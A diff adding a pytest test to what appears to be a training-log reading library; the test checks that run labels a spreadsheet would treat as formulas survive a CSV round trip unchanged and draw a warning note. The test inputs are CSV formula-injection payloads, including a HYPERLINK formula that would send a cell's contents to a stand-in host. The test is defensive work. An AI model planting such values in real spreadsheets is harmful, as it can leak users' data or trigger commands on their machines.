@@ -1454,3 +1454,21 @@ def test_every_keyword_of_the_readers_is_an_option():
     assert fields - {"loss"} == set(logs.Asked.__annotations__)
     for name in fields:
         assert re.search(rf"^    .*\b{name}\b.* : ", Options.__doc__, re.MULTILINE), name
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "+1+cmd", "-2+3", "@SUM(1)"])
+def test_a_run_that_a_spreadsheet_would_run_is_told_and_kept(tmp_path, name):
+    """
+    A label must come out as it went in, so the account says what a spreadsheet would do with it.
+    """
+    path = tmp_path / "x.csv"
+    pd.DataFrame({"run": [name, "-1.5e3"], "tokens": [1e6, 1e6], "loss": [2.5, 2.4]}).to_csv(
+        path, index=False
+    )
+    log = logs.read_csv(path, {"run": "run", "tokens": "tokens", "loss": "loss"})
+
+    told = [each for each in log.notes if "formula" in each]
+    assert [name, "-1.5e3"] == log.records["run"].tolist()
+    assert 1 == len(told)
+    assert "run: a spreadsheet would run 1 text as a formula" in told[0]
+    assert told[0] in log.records.attrs["p2law"]
